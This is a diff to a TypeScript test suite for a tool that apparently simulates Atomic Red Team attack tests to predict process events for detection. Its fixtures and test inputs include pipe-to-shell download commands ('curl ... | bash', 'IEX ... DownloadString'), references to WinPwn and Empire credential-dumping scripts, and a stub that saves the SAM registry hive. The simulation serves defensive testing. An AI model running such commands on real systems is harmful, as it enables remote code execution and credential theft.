@@ -14,6 +14,8 @@ import { topLevelStatements } from '../../src/lib/evaluate/simulate/loaded.ts';
 const WINPWN = 'https://raw.githubusercontent.com/S3cur3Th1sSh1t/WinPwn/121dcee26a7aca368821563cbe92b2b5638c5773/WinPwn.ps1';
 const POWERDUMP = 'https://raw.githubusercontent.com/BC-SECURITY/Empire/c1bdbd0fdafd5bf34760d5b158dfd0db2bb19556/data/module_source/credentials/Invoke-PowerDump.ps1';
 
+const FISH = 'https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1059.004/src/echo-art-fish.sh';
+
 function fixture(): { payloads: string; atomics: string } {
   const root = mkdtempSync(path.join(tmpdir(), 'atlas-payloads-'));
   const payloads = path.join(root, 'payloads');
@@ -24,6 +26,7 @@ function fixture(): { payloads: string; atomics: string } {
   };
   put(path.join(payloads, 'raw.githubusercontent.com/WinPwn.ps1'), 'function samfile {\n  reg save hklm\\sam C:\\temp\\sam\n}\n# loaded\nWrite-Host "WinPwn loaded"\n');
   put(path.join(payloads, 'raw.githubusercontent.com/PowerDump.ps1'), 'function Invoke-PowerDump {\n  $x = "DumpHashes"\n}\n');
+  put(path.join(payloads, 'raw.githubusercontent.com/echo-art-fish.sh'), '#!/bin/bash\necho fish\nwhoami\n');
   put(path.join(payloads, 'modules/ATH/Windows/ATH.psm1'), 'Get-ChildItem "$PSScriptRoot\\TestHarnesses" | ForEach-Object { . $_.FullName }');
   put(path.join(payloads, 'modules/ATH/Windows/TestHarnesses/Mshta.ps1'), 'function Invoke-ATHHTMLApplication {\n  [CmdletBinding()]\n  param()\n  mshta.exe about:blank\n}\n');
   put(
@@ -31,6 +34,7 @@ function fixture(): { payloads: string; atomics: string } {
     JSON.stringify({
       [WINPWN]: { file: 'raw.githubusercontent.com/WinPwn.ps1', sha256: 'x', bytes: 1, source: 'S3cur3Th1sSh1t/WinPwn@121dcee:WinPwn.ps1' },
       [POWERDUMP]: { file: 'raw.githubusercontent.com/PowerDump.ps1', sha256: 'x', bytes: 1, source: 'x' },
+      [FISH]: { file: 'raw.githubusercontent.com/echo-art-fish.sh' },
       modules: {
         ATH: {
           dir: 'modules/ATH',
@@ -136,6 +140,30 @@ describe('loaded code', () => {
   it('without a store nothing is loaded, and downloads are noted', () => {
     const run = simulateTest({ guid: 'g', platforms: ['windows'], executor: 'powershell', elevationRequired: false, commandResolved: `IEX (New-Object Net.WebClient).DownloadString('${WINPWN}')` });
     expect(run.notes).toEqual([`payload not available: ${WINPWN}`]);
+  });
+});
+
+describe('batch files and shell scripts', () => {
+  const cmd = (command: string) => simulateTest({ guid: 'g', platforms: ['windows'], executor: 'command_prompt', elevationRequired: false, commandResolved: command }, store);
+  const sh = (command: string) => simulateTest({ guid: 'g', platforms: ['linux'], executor: 'sh', elevationRequired: false, commandResolved: command }, store);
+  const linux = (events: ReturnType<typeof sh>['events']) => events.filter((e) => e.logsource.category === 'process_creation').map((e) => String(e.fields['Image']));
+  it('a .bat file of the atomics folder runs line by line in its cmd.exe (T1016 #7 style), each process naming the line', () => {
+    const run = cmd('"PathToAtomicsFolder\\T1059.003\\src\\run.bat"');
+    const whoami = run.events.find((e) => String(e.fields['Image']).endsWith('whoami.exe'));
+    expect(whoami?.fields['CommandLine']).toBe('whoami /groups');
+    expect(String(whoami?.fields['ParentCommandLine'])).toContain('run.bat');
+    expect(whoami?.source).toEqual({ file: 'atomics/T1059.003/src/run.bat', line: 2 });
+    expect(images(run.events)).toContain('net1.exe');
+  });
+  it('curl URL | bash runs the downloaded script (T1059.004 #2)', () => {
+    const run = sh(`curl -sS ${FISH} | bash`);
+    expect(linux(run.events)).toEqual(['/bin/sh', '/usr/bin/curl', '/bin/bash', '/usr/bin/whoami']);
+  });
+  it('sh with a script file of the atomics folder runs it (T1123 #3 style)', () => {
+    expect(linux(sh('sh PathToAtomicsFolder/T1059.004/src/x.sh /tmp/out 5').events)).toEqual(['/bin/sh', '/bin/sh', '/usr/bin/uname', '/usr/bin/cat']);
+  });
+  it('a script the store lacks is noted', () => {
+    expect(sh('curl -s https://example.org/x.sh | sh').notes).toEqual(['payload not available: https://example.org/x.sh']);
   });
 });
 
